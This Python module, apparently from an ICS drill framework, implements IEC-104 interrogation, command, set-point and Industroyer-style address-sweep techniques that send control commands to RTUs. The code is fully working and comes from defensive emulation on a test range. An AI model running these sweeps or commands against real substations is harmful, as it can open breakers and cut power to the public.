"""IEC 60870-5-104 techniques: interrogation, commands, set-points, Industroyer-style sweeps.

The IEC-104 module of Industroyer (2016) and Industroyer2 (2022) connected to RTUs, sent
STARTDT, optionally interrogated, then sent single and double commands across ranges of
information object addresses until breakers opened; these techniques do the same on the range.

The controlling station is made of Interlock's codec (:mod:`interlock.protocols.iec104`) over a
plain asyncio stream rather than c104/lib60870's client: the drill knows every APDU sent (the
U, I and S frames of the Action), numbers the I frames itself, and can sweep addresses that a
client library would refuse to address without a configured point.
"""

from __future__ import annotations

import contextlib
from collections.abc import Awaitable, Callable, Mapping
from dataclasses import dataclass

from interlock.drill.techniques.base import (
    MALFORMED_RESPONSE,
    NO_RESPONSE,
    OK,
    Context,
    Link,
    Session,
    Technique,
    again,
    family,
    repeat,
    summarize,
)
from interlock.protocols.base import Malformed
from interlock.protocols.iec104 import (
    Apdu,
    Asdu,
    DoubleCommand,
    IFormat,
    InformationObject,
    InterrogationCommand,
    SetpointNormalized,
    SetpointScaled,
    SetpointShortFloat,
    SFormat,
    SingleCommand,
    UFormat,
    build,
    parse,
)
from interlock.protocols.iec104.fields import Cause, TypeID, UFunction

PROTOCOL = "iec104"
ACK_EVERY = 8  # w: acknowledge received I frames at least this often (104 §5.5 default w = 8)
STATION = 20  # QOI: station interrogation
SETPOINT_TYPES = {"float": TypeID.C_SE_NC_1, "scaled": TypeID.C_SE_NB_1, "normalized": TypeID.C_SE_NA_1}


class SessionError(Exception):
    """STARTDT was not confirmed."""


@dataclass(frozen=True)
class Confirmation:
    outcome: str
    asdus: tuple[Asdu, ...] = ()


def cause_name(cot: int) -> str:
    try:
        return Cause(cot).name
    except ValueError:
        return str(cot)


class Iec104Link(Link):
    """A controlling station on one connection: STARTDT, N(S)/N(R), S acknowledgements, TESTFR."""

    def __init__(self, ctx: Context) -> None:
        super().__init__(ctx)
        self.send_seq = 0
        self.recv_seq = 0
        self.unacked = 0
        self.monitored: dict[int, object] = {}  # IOA -> last value the station reported

    async def send(self, apdu: Apdu, *, request: bool = True) -> None:
        assert self.stream is not None
        await self.stream.send(build(apdu), request=request)

    async def read(self, wait: float | None = None) -> Apdu | Malformed:
        """The next APDU; acknowledges I frames (every ``ACK_EVERY``) and answers TESTFR."""
        assert self.stream is not None
        head = await self.stream.recv(2, wait)
        apdu = parse(head + await self.stream.recv(head[1], wait))
        self.ctx.responses += 1
        if isinstance(apdu, IFormat):
            self.recv_seq = (self.recv_seq + 1) & 0x7FFF
            self.unacked += 1
            for obj in apdu.asdu.objects:
                if hasattr(obj, "value") and apdu.asdu.type_id < TypeID.C_SC_NA_1:
                    self.monitored[obj.ioa] = getattr(obj, "value")  # noqa: B009
            if self.unacked >= ACK_EVERY:
                await self.ack()
        elif isinstance(apdu, UFormat) and apdu.function == UFunction.TESTFR_ACT:
            await self.send(UFormat(UFunction.TESTFR_CON), request=False)
        return apdu

    async def ack(self) -> None:
        if self.unacked and self.stream is not None:
            self.unacked = 0
            await self.send(SFormat(self.recv_seq), request=False)

    async def open(self) -> None:
        self.stream = await self.ctx.connect()
        await self.send(UFormat(UFunction.STARTDT_ACT))
        while True:
            apdu = await self.read()
            if isinstance(apdu, UFormat) and apdu.function == UFunction.STARTDT_CON:
                return
            if isinstance(apdu, Malformed):
                raise SessionError(f"answer to STARTDT is malformed: {apdu.detail}")

    async def send_asdu(self, asdu: Asdu) -> None:
        await self.send(IFormat(self.send_seq, self.recv_seq, asdu))
        self.send_seq = (self.send_seq + 1) & 0x7FFF
        self.unacked = 0  # an I frame carries N(R): it acknowledges too

    async def activate(self, asdu: Asdu, *, until_term: bool = False,
                       wait: float | None = None) -> Confirmation:
        """Send an activation; wait for its ACT_CON (and ACT_TERM when asked) for the same type
        and address. A negative or other cause of transmission is the outcome."""
        await self.send_asdu(asdu)
        ioa = asdu.objects[0].ioa
        seen: list[Asdu] = []
        outcome = NO_RESPONSE
        try:
            while True:
                apdu = await self.read(wait)
                if isinstance(apdu, Malformed):
                    return Confirmation(MALFORMED_RESPONSE, tuple(seen))
                if not isinstance(apdu, IFormat):
                    continue
                reply = apdu.asdu
                seen.append(reply)
                if reply.type_id != asdu.type_id or not reply.objects or reply.objects[0].ioa != ioa:
                    continue
                if reply.cot == Cause.ACTIVATION_CON:
                    outcome = "negative confirmation" if reply.negative else OK
                    if not until_term or reply.negative:
                        break
                elif reply.cot == Cause.ACTIVATION_TERM:
                    break
                else:  # 44..47: unknown type, cause, common address, IOA
                    outcome = f"cot {cause_name(reply.cot)}" + (" negative" if reply.negative else "")
                    break
        except TimeoutError:
            pass
        return Confirmation(outcome, tuple(seen))

    async def close(self) -> None:
        if self.stream is not None:
            with contextlib.suppress(ConnectionError, OSError):
                await self.ack()  # leave nothing unacknowledged behind
        await super().close()


Body = Callable[[Context, Iec104Link], Awaitable[tuple[str, dict[str, object]]]]
SESSION = Session(SessionError, {"phase": "STARTDT"})


def command_asdu(ctx: Context, obj: InformationObject, type_id: TypeID) -> Asdu:
    return Asdu(type_id, Cause.ACTIVATION, ctx.unit(), (obj,), originator=ctx.as_int("originator"))


def _command(make: Callable[[Context, int, bool], tuple[InformationObject, TypeID]]) -> Body:
    """Select (when ``select`` is true) then execute, ``repeat`` times."""
    async def body(ctx: Context, link: Iec104Link) -> tuple[str, dict[str, object]]:
        ioa = ctx.as_int("ioa")

        async def once() -> list[str]:
            outcomes: list[str] = []
            if ctx.as_bool("select"):
                obj, tid = make(ctx, ioa, True)
                selected = await link.activate(command_asdu(ctx, obj, tid))
                outcomes.append(selected.outcome)
                if selected.outcome != OK:
                    return outcomes
            obj, tid = make(ctx, ioa, False)
            outcomes.append((await link.activate(command_asdu(ctx, obj, tid))).outcome)
            return outcomes

        outcomes = [outcome for run in await repeat(ctx, once) for outcome in run]
        return summarize(outcomes), {"ioa": ioa, "common_address": ctx.unit(), "outcomes": outcomes}
    return body


def _single(ctx: Context, ioa: int, select: bool) -> tuple[InformationObject, TypeID]:
    return SingleCommand(ioa, ctx.as_bool("value"), ctx.as_int("qu"), select), TypeID.C_SC_NA_1


def _double(ctx: Context, ioa: int, select: bool) -> tuple[InformationObject, TypeID]:
    value = ctx.get("value")
    dcs = {"off": 1, "on": 2}.get(value.lower(), -1) if isinstance(value, str) else ctx.as_int("value")
    if not 0 <= dcs <= 3:
        raise ValueError(f"iec104.double_command: value {value!r}; use off, on, or 0..3")
    return DoubleCommand(ioa, dcs, ctx.as_int("qu"), select), TypeID.C_DC_NA_1


def _setpoint(ctx: Context, ioa: int, select: bool) -> tuple[InformationObject, TypeID]:
    kind = ctx.as_str("kind").lower()
    tid = SETPOINT_TYPES.get(kind)
    if tid is None:
        raise ValueError(f"iec104.setpoint: kind {kind!r}; use one of {', '.join(SETPOINT_TYPES)}")
    obj: InformationObject
    if tid == TypeID.C_SE_NC_1:
        obj = SetpointShortFloat(ioa, ctx.as_float("value"), 0, select)
    elif tid == TypeID.C_SE_NB_1:
        obj = SetpointScaled(ioa, ctx.as_int("value"), 0, select)
    else:
        nva = max(-32768, min(32767, round(ctx.as_float("value") * 32768)))
        obj = SetpointNormalized(ioa, nva, 0, select)
    return obj, tid


async def _interrogation(ctx: Context, link: Iec104Link) -> tuple[str, dict[str, object]]:
    """General (QOI 20) or group interrogation; the points reported up to ACT_TERM."""
    qoi = ctx.as_int("qoi")
    asdu = Asdu(TypeID.C_IC_NA_1, Cause.ACTIVATION, ctx.unit(), (InterrogationCommand(0, qoi),),
                originator=ctx.as_int("originator"))
    confirmation = await link.activate(asdu, until_term=True)
    points = {ioa: v for ioa, v in sorted(link.monitored.items())}
    return confirmation.outcome, {"qoi": qoi, "common_address": ctx.unit(), "points": points}


async def _ioa_sweep(ctx: Context, link: Iec104Link) -> tuple[str, dict[str, object]]:
    """One command per IOA from ``start`` to ``stop``: which addresses accept it (Industroyer)."""
    kind, wait = ctx.as_str("command").lower(), ctx.as_float("wait_s")
    if kind not in ("single", "double"):
        raise ValueError(f"iec104.ioa_sweep: command {kind!r}; use single or double")
    if ctx.as_bool("interrogate"):
        await _interrogation(ctx, link)
    accepted: list[int] = []
    outcomes: dict[str, int] = {}
    for i, ioa in enumerate(range(ctx.as_int("start"), ctx.as_int("stop") + 1)):
        if i:
            await ctx.pause()
        obj, tid = (_single if kind == "single" else _double)(ctx, ioa, False)
        outcome = (await link.activate(command_asdu(ctx, obj, tid), wait=wait)).outcome
        outcomes[outcome] = outcomes.get(outcome, 0) + 1
        if outcome == OK:
            accepted.append(ioa)
    return OK, {"accepted": accepted, "outcomes": outcomes, "command": kind}


COMMON: dict[str, object] = {"unit": None, "originator": 0, "repeat": 1, "interval_s": 0.0}
COMMAND: dict[str, object] = {"ioa": 0, "select": False, "qu": 0, **COMMON}
_TABLE: list[tuple[str, tuple[str, ...], str, Mapping[str, object], Body]] = [
    ("iec104.interrogation", ("T0846", "T0861"), "C_IC_NA_1 interrogation (QOI 20: station)",
     {"qoi": STATION, **COMMON}, again(_interrogation)),
    ("iec104.single_command", ("T0855", "T0831"), "C_SC_NA_1 single command, optionally select "
     "before execute", {"value": True, **COMMAND}, _command(_single)),
    ("iec104.double_command", ("T0855", "T0831"), "C_DC_NA_1 double command (off = 1, on = 2)",
     {"value": "on", **COMMAND}, _command(_double)),
    ("iec104.setpoint", ("T0836", "T0855"), "C_SE_NC_1 / NB_1 / NA_1 set-point command",
     {"value": 0.0, "kind": "float", **COMMAND}, _command(_setpoint)),
    ("iec104.ioa_sweep", ("T0855", "T0846"), "Industroyer-style: a command to every IOA of a range",
     {"start": 1, "stop": 16, "command": "single", "value": True, "qu": 0, "wait_s": 0.5,
      "interrogate": False, "qoi": STATION, **COMMON}, again(_ioa_sweep)),
]

TECHNIQUES: tuple[Technique, ...] = family(PROTOCOL, Iec104Link, _TABLE, SESSION)
